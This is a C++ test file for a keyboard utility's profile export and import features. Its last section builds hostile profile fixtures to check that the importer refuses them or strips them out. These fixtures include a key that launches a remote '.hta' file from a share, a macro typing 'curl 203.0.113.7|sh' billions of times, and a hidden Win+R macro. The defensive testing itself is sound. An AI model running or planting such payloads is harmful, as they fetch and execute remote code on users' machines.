// Profiles given away and taken in: Export on one profile page and Import on
// another with the file dialogs, "Option.exe --export-profile" and
// "--import-profile" beside an open window and without one, and damaged files
// refused with nothing changed. Checked at the keyboard's trace, in the
// shared block and in the files.

#include <cstring>
#include <memory>
#include <string>

#include "DownloadTrace.h"
#include "FileIo.h"
#include "ListFiles.h"
#include "OptionHarness_win.h"
#include "ProfileFiles.h"
#include "ProfileShare.h"
#include "TextCodec_win.h"

namespace {

using namespace harness;

enum PageControl { kList = 1, kAdd, kRemove, kCopyBox, kCopyTarget, kResetProfile, kOk, kCancel, kClose };
constexpr int kExport = 11, kImport = 12;
constexpr DWORD kLong = 20000;

void nightRacer(ProfileRecord& p) {
  std::strcpy(p.profileName, "Night Racer");
  p.lightFx = 3;
  p.waveColor = 0x123456;
  p.keys[10].category = kCategoryDisabled;
  p.keys[10].functionCode = kFunctionDisabled;
  KeyAssignment& nitro = p.keys[3];  // among the keys whose macros the library collects at start
  nitro.category = kCategoryMacro;
  nitro.functionCode = kFunctionRecordedMacro;
  std::strcpy(nitro.macroName, "Nitro");
  nitro.stepCount = 2;
  nitro.steps[0] = MacroStep::make(17, kActionPress, 40);
  nitro.steps[1] = MacroStep::make(17, kActionRelease, 0);
  KeyAssignment& gg = p.keys[4];
  gg.category = kCategoryMacro;
  gg.functionCode = kFunctionTextMacro;
  std::strcpy(gg.textMacroName, "gg");
  std::strcpy(gg.textMacroText, "Good game!");
  p.totalMacro = 1;
}

void drift(ProfileRecord& p) {
  std::strcpy(p.profileName, "Drift");
  p.lightFx = 2;
  p.breatheColor = 0x00AA00;
  p.keys[12].category = kCategoryDisabled;
  p.keys[12].functionCode = kFunctionDisabled;
}

class OptionShare : public OptionHarness {
 protected:
  // Types `path` into the file dialog titled `title` and confirms it.
  void chooseFile(const char* title, const std::string& path) {
    HWND dialog = waitForWindow(title);
    ASSERT_NE(dialog, nullptr) << title;
    xdotool("search --sync --onlyvisible --name '^" + std::string(title) + "$' windowfocus --sync %1");
    key("alt+n");  // the file name field, its text selected
    EXPECT_TRUE(xdotool("type --delay 5 '" + path + "'"));
    key("Return");
    ASSERT_TRUE(closed(dialog)) << title;
  }
  void applyAndWaitFor(std::vector<Download>& downloads) {
    const size_t mark = traceSize();
    click(mainControl(kApply));
    downloads = waitForDownloads(mark, 1);
    ASSERT_EQ(downloads.size(), 1u);
    ASSERT_TRUE(waitApplyEnabled());
  }
  // The download is what the block's active profile and flags ask for.
  void expectDownloadOfBlock(const Download& got) {
    std::unique_ptr<SettingsImage> block = readBlock();
    kbd::DownloadSnapshot snapshot = kbd::takeDownloadSnapshot(*block);
    ASSERT_TRUE(snapshot.active);
    const emu::Comparison c =
        emu::compareDownload(got, kbd::encodeDownload(*snapshot.active, snapshot.flags, false));
    EXPECT_EQ(c.firstDifference, "");
  }
  std::unique_ptr<ProfileRecord> savedProfile(int profile) {
    auto record = std::make_unique<ProfileRecord>();
    buildDefaultProfile(*record, profile);
    const std::string path = profilePath(folder_, profile);
    if (GetFileAttributesA(path.c_str()) != INVALID_FILE_ATTRIBUTES) loadProfile(*record, path);
    return record;
  }
  // The skinned warning of a refused file, in the skin's look (no system
  // message box), looked at and closed with its OK.
  void closeRefusal(const std::string& picture) {
    HWND box = waitForWindow("Profile not imported");
    ASSERT_NE(box, nullptr) << "no word about the refusal";
    char className[64] = {};
    GetClassNameA(box, className, sizeof className);
    EXPECT_STRNE(className, "#32770") << "a system message box";
    waitFor([] { return false; }, 150);
    capture(box, folder_ + picture + ".bmp");
    clickOn(box, "skin_profile_refused_warn.ini", 1);
    ASSERT_TRUE(closed(box));
  }
  std::string fileBytes(const std::string& path) {
    std::string bytes;
    readWholeFile(path, bytes);
    return bytes;
  }
  void stopMonitor() {
    PostMessageA(monitorWindow(), WM_COMMAND, ID_TRAY_EXIT, 0);
    ASSERT_TRUE(waitFor([&] { return WaitForSingleObject(monitor_.hProcess, 0) == WAIT_OBJECT_0; }, 15000));
  }
  // A sound file of `change`, cut inside its keys.
  std::string brokenFile(void (*change)(ProfileRecord&)) {
    auto profile = std::make_unique<ProfileRecord>();
    buildDefaultProfile(*profile, 0);
    change(*profile);
    const std::string text = writeProfileFile(*profile, {}, "1.02", systemTextCodec());
    const std::string path = folder_ + "broken.vqprofile";
    EXPECT_TRUE(replaceFileAtomically(path, text.substr(0, text.size() - 40)));
    return path;
  }
};

}  // namespace

TEST_F(OptionShare, ExportOnOnePageAndImportOnAnotherWithTheFileDialogs) {
  writeProfile(0, nightRacer);
  writeAppList(3, 1);  // profile 3 links a program of its own
  startWithEmulatedKeyboard();
  startOption();
  const std::string file = folder_ + "night.vqprofile";

  HWND page = openProfilePage(1);
  ASSERT_NE(page, nullptr);
  clickOn(page, profilePageIni(1), kExport);
  chooseFile("Export profile", file);
  if (HasFatalFailure()) return;
  clickOn(page, profilePageIni(1), kCancel);  // an export needs no OK
  ASSERT_TRUE(closed(page));
  SharedProfile written;
  ASSERT_EQ(readProfileFile(fileBytes(file), written, systemTextCodec()), "");
  EXPECT_STREQ(written.profile->profileName, "Night Racer");

  click(mainControl(kFirstSelector + 2));
  page = openProfilePage(3);
  ASSERT_NE(page, nullptr);
  clickOn(page, profilePageIni(3), kImport);
  chooseFile("Import profile", file);
  if (HasFatalFailure()) return;
  clickOn(page, profilePageIni(3), kOk);
  ASSERT_TRUE(closed(page));
  std::vector<Download> downloads;
  applyAndWaitFor(downloads);
  if (HasFatalFailure()) return;
  expectDownloadOfBlock(downloads[0]);

  std::unique_ptr<SettingsImage> block = readBlock();
  const ProfileRecord& imported = block->profiles[2];
  EXPECT_EQ(block->currentProfile, 2);
  EXPECT_STREQ(imported.profileName, "Night Racer");
  EXPECT_EQ(imported.lightFx, 3);
  EXPECT_EQ(imported.waveColor, 0x123456u);
  EXPECT_EQ(imported.keys[10].category, kCategoryDisabled);
  EXPECT_STREQ(imported.keys[3].macroName, "Nitro");
  EXPECT_EQ(imported.keys[3].stepCount, 2);
  EXPECT_STREQ(imported.keys[4].textMacroText, "Good game!");
  EXPECT_STREQ(imported.linkedApps[0], "C:\\Games\\game0.exe") << "the links are the profile's own";

  const auto saved = savedProfile(2);
  EXPECT_STREQ(saved->profileName, "Night Racer");
  EXPECT_EQ(saved->lightFx, 3);
  EXPECT_STREQ(saved->linkedApps[0], "C:\\Games\\game0.exe");
  MacroLibrary macros;
  loadList(macros, folder_, kMacroLibraryFile);
  ASSERT_EQ(macros.size(), 1u) << "the same macro came in twice";
  EXPECT_STREQ(macros[0].name, "Nitro");
  TextMacroLibrary texts;
  loadList(texts, folder_, kTextMacroLibraryFile);
  ASSERT_EQ(texts.size(), 1u);
  EXPECT_STREQ(texts[0].name, "gg");
}

TEST_F(OptionShare, TheCommandLineBesideAnOpenWindowSendsTheImportAloneAndTheWindowFollows) {
  writeProfile(1, drift);
  startWithEmulatedKeyboard();
  startOption();
  // An edit of profile 3 that is not applied: the Windows key switched off.
  click(mainControl(kFirstSelector + 2));
  click(winKeyButton(1));
  click(mainControl(kFirstSelector));
  const std::string file = folder_ + "drift.vqprofile";

  ProgramRun r = run("Option.exe", "--export-profile 2 \"" + file + "\"");
  ASSERT_TRUE(r.ended);
  EXPECT_EQ(r.exitCode, 0u) << r.output;
  const size_t mark = traceSize();
  r = run("Option.exe", "--import-profile 1 \"" + file + "\"");
  ASSERT_TRUE(r.ended);
  EXPECT_EQ(r.exitCode, 0u) << r.output;
  EXPECT_EQ(r.output.rfind("Imported \"Drift\"", 0), 0u) << r.output;
  const std::vector<Download> downloads = waitForDownloads(mark, 1);
  ASSERT_EQ(downloads.size(), 1u) << "the import did not reach the keyboard";
  expectDownloadOfBlock(downloads[0]);
  std::unique_ptr<SettingsImage> block = readBlock();
  EXPECT_STREQ(block->profiles[0].profileName, "Drift");
  EXPECT_EQ(block->profiles[0].lightFx, 2);
  EXPECT_EQ(block->profiles[0].breatheColor, 0x00AA00u);
  EXPECT_EQ(block->profiles[2].leftWinLock, 1) << "an edit the user did not apply was sent";
  EXPECT_EQ(block->currentProfile, 0);
  EXPECT_STREQ(savedProfile(0)->profileName, "Drift");
  EXPECT_EQ(savedProfile(2)->leftWinLock, 1);

  // The window holds the import: the user's own apply sends the edit and
  // keeps the imported profile.
  ASSERT_TRUE(waitApplyEnabled());
  std::vector<Download> applied;
  applyAndWaitFor(applied);
  if (HasFatalFailure()) return;
  block = readBlock();
  EXPECT_EQ(block->profiles[2].leftWinLock, 0);
  EXPECT_STREQ(block->profiles[0].profileName, "Drift");
  EXPECT_EQ(block->profiles[0].keys[12].category, kCategoryDisabled);
}

TEST_F(OptionShare, TheCommandLineWithoutAWindowChangesTheBlockAndTheFilesOrRefusesAndChangesNothing) {
  writeProfile(1, drift);
  writeAppList(1, 1);
  startWithEmulatedKeyboard();

  ProgramRun r = run("Option.exe", "--export-profile 2 drift.vqprofile");  // beside the program: its folder
  ASSERT_TRUE(r.ended);
  EXPECT_EQ(r.exitCode, 0u) << r.output;
  const size_t mark = traceSize();
  r = run("Option.exe", "--import-profile 1 drift.vqprofile");
  EXPECT_EQ(r.exitCode, 0u) << r.output;
  ASSERT_EQ(waitForDownloads(mark, 1).size(), 1u) << "the import did not reach the keyboard";
  std::unique_ptr<SettingsImage> block = readBlock();
  EXPECT_STREQ(block->profiles[0].profileName, "Drift");
  EXPECT_EQ(block->profiles[0].keys[12].category, kCategoryDisabled);
  EXPECT_STREQ(block->profiles[0].linkedApps[0], "C:\\Games\\game0.exe");
  EXPECT_STREQ(savedProfile(0)->profileName, "Drift");
  EXPECT_STREQ(savedProfile(0)->linkedApps[0], "C:\\Games\\game0.exe");

  // A damaged file: one line on the console, and nothing changes anywhere.
  const std::string broken = brokenFile(drift);
  const std::string before = fileBytes(profilePath(folder_, 0));
  const std::string macrosBefore = fileBytes(folder_ + kMacroLibraryFile.file);
  const size_t traceBefore = traceSize();
  r = run("Option.exe", "--import-profile 1 \"" + broken + "\"");
  EXPECT_EQ(r.exitCode, 1u);
  EXPECT_NE(r.output.find("damaged or cut short"), std::string::npos) << r.output;
  EXPECT_EQ(r.output.find('\n'), r.output.size() - 1) << "one line: " << r.output;
  EXPECT_EQ(fileBytes(profilePath(folder_, 0)), before);
  EXPECT_EQ(fileBytes(folder_ + kMacroLibraryFile.file), macrosBefore);
  EXPECT_EQ(std::memcmp(readBlock().get(), block.get(), sizeof(SettingsImage)), 0);
  waitFor([] { return false; }, 300);
  EXPECT_EQ(traceSize(), traceBefore);

  // Without the monitor the files alone change.
  stopMonitor();
  r = run("Option.exe", "--import-profile 3 drift.vqprofile");
  EXPECT_EQ(r.exitCode, 0u) << r.output;
  EXPECT_STREQ(savedProfile(2)->profileName, "Drift");
  r = run("Option.exe", "--import-profile 3 missing.vqprofile");
  EXPECT_EQ(r.exitCode, 1u);
  EXPECT_NE(r.output.find("missing.vqprofile"), std::string::npos) << r.output;
  r = run("Option.exe", "--help");
  EXPECT_EQ(r.exitCode, 0u);
  EXPECT_NE(r.output.find("--import-profile N FILE"), std::string::npos) << r.output;
}

TEST_F(OptionShare, ADamagedFileIsRefusedOnThePageWithNothingChanged) {
  writeProfile(0, [](ProfileRecord& p) { std::strcpy(p.profileName, "Keep me"); });
  startWithEmulatedKeyboard();
  startOption();
  const std::string broken = brokenFile(drift);
  std::unique_ptr<SettingsImage> before = readBlock();
  const std::string macrosBefore = fileBytes(folder_ + kMacroLibraryFile.file);

  HWND page = openProfilePage(1);
  ASSERT_NE(page, nullptr);
  clickOn(page, profilePageIni(1), kImport);
  chooseFile("Import profile", broken);
  if (HasFatalFailure()) return;
  closeRefusal("damaged-refused");
  if (HasFatalFailure()) return;
  clickOn(page, profilePageIni(1), kOk);
  ASSERT_TRUE(closed(page));
  std::vector<Download> downloads;
  applyAndWaitFor(downloads);
  if (HasFatalFailure()) return;
  std::unique_ptr<SettingsImage> after = readBlock();
  EXPECT_EQ(std::memcmp(&after->profiles[0], &before->profiles[0], sizeof(ProfileRecord)), 0);
  EXPECT_STREQ(savedProfile(0)->profileName, "Keep me");
  EXPECT_EQ(fileBytes(folder_ + kMacroLibraryFile.file), macrosBefore);
}

namespace {

// Files as an attacker makes them: exported by the program, their key
// blocks patched (format 1.0, checksums recomputed by the writer).
void stranger(ProfileRecord& p) {
  std::strcpy(p.profileName, "Stranger");
  p.keys[12].category = kCategoryDisabled;
  p.keys[12].functionCode = kFunctionDisabled;
  KeyAssignment& launch = p.keys[16];  // Q: opens a program on someone's share
  launch.category = kCategoryLaunch;
  launch.functionCode = kFunctionLaunch;
  std::strcpy(launch.appPath, "\\\\203.0.113.7\\s\\x.hta");
}

void textBomb(ProfileRecord& p) {
  stranger(p);
  KeyAssignment& a = p.keys[45];  // A: pastes a text and Enter, 2^31 times
  a.category = kCategoryMacro;
  a.functionCode = kFunctionTextMacro;
  std::strcpy(a.textMacroText, "curl 203.0.113.7|sh");
  a.keyAfter = 40;
  a.playMode = kPlayNTimes;
  a.playCount = INT32_MAX;
}

void hiddenSteps(ProfileRecord& p) {
  stranger(p);
  KeyAssignment& q = p.keys[31];  // Win+R, then Enter: steps no section shows
  q.category = kCategoryMacro;
  q.functionCode = kFunctionRecordedMacro;
  q.stepCount = 4;
  q.steps[0] = MacroStep::make(227, kActionPress, 0);
  q.steps[1] = MacroStep::make(21, kActionPress, 0);
  q.steps[2] = MacroStep::make(21, kActionRelease, 0);
  q.steps[3] = MacroStep::make(40, kActionPress, 0);
}

}  // namespace

TEST_F(OptionShare, AHostileFileChangesNothingAUserCannotSeeThroughTheCommandLineAndThePage) {
  writeProfile(0, [](ProfileRecord& p) { std::strcpy(p.profileName, "Keep me"); });
  startWithEmulatedKeyboard();
  auto hostile = [&](const char* name, void (*change)(ProfileRecord&)) {
    auto profile = std::make_unique<ProfileRecord>();
    buildDefaultProfile(*profile, 0);
    change(*profile);
    const std::string path = folder_ + name + ".vqprofile";
    EXPECT_TRUE(replaceFileAtomically(path, writeProfileFileFormat10(*profile, {}, "1.02", systemTextCodec())));
    return path;
  };
  const std::string launch = hostile("stranger", stranger);
  const std::string bomb = hostile("bomb", textBomb);
  const std::string steps = hostile("steps", hiddenSteps);

  // The command line without a window: the nameless macros refuse the file.
  const std::string before = fileBytes(profilePath(folder_, 0));
  const std::unique_ptr<SettingsImage> blockBefore = readBlock();
  for (const std::string& file : {bomb, steps}) {
    const ProgramRun r = run("Option.exe", "--import-profile 1 \"" + file + "\"");
    EXPECT_EQ(r.exitCode, 1u) << r.output;
    EXPECT_NE(r.output.find("Import refused, nothing changed"), std::string::npos) << r.output;
    EXPECT_NE(r.output.find("without a name"), std::string::npos) << r.output;
  }
  EXPECT_EQ(fileBytes(profilePath(folder_, 0)), before);
  EXPECT_EQ(std::memcmp(readBlock().get(), blockBefore.get(), sizeof(SettingsImage)), 0);
  // The launch key comes in as a default key, and the console says so.
  size_t mark = traceSize();
  ProgramRun r = run("Option.exe", "--import-profile 2 \"" + launch + "\"");
  EXPECT_EQ(r.exitCode, 0u) << r.output;
  EXPECT_NE(r.output.find("1 program key left out (default keys now)"), std::string::npos) << r.output;
  ASSERT_EQ(waitForDownloads(mark, 1).size(), 1u);
  std::unique_ptr<SettingsImage> block = readBlock();
  auto plain = std::make_unique<ProfileRecord>();
  buildDefaultProfile(*plain, 1);
  EXPECT_STREQ(block->profiles[1].profileName, "Stranger");
  EXPECT_EQ(block->profiles[1].keys[12].category, kCategoryDisabled);
  EXPECT_EQ(std::memcmp(&block->profiles[1].keys[16], &plain->keys[16], sizeof(KeyAssignment)), 0);
  EXPECT_EQ(fileBytes(profilePath(folder_, 1)).find("203.0.113.7"), std::string::npos);

  // The same through the profile page.
  startOption();
  HWND page = openProfilePage(1);
  ASSERT_NE(page, nullptr);
  for (const std::string& file : {bomb, steps}) {
    clickOn(page, profilePageIni(1), kImport);
    chooseFile("Import profile", file);
    if (HasFatalFailure()) return;
    closeRefusal(file == bomb ? "refused-bomb" : "refused-steps");
    if (HasFatalFailure()) return;
  }
  clickOn(page, profilePageIni(1), kImport);
  chooseFile("Import profile", launch);
  if (HasFatalFailure()) return;
  waitFor([] { return false; }, 150);
  capture(page, folder_ + "import-preview.bmp");  // what comes in, shown before OK
  clickOn(page, profilePageIni(1), kOk);
  ASSERT_TRUE(closed(page));
  std::vector<Download> downloads;
  applyAndWaitFor(downloads);
  if (HasFatalFailure()) return;
  block = readBlock();
  EXPECT_STREQ(block->profiles[0].profileName, "Stranger");
  EXPECT_EQ(std::memcmp(&block->profiles[0].keys[16], &plain->keys[16], sizeof(KeyAssignment)), 0);
  for (int k : {31, 45}) EXPECT_EQ(block->profiles[0].keys[k].category, kCategoryDefault) << k;
  TextMacroLibrary texts;
  loadList(texts, folder_, kTextMacroLibraryFile);
  EXPECT_TRUE(texts.empty());
  EXPECT_EQ(fileBytes(profilePath(folder_, 0)).find("203.0.113.7"), std::string::npos);
}
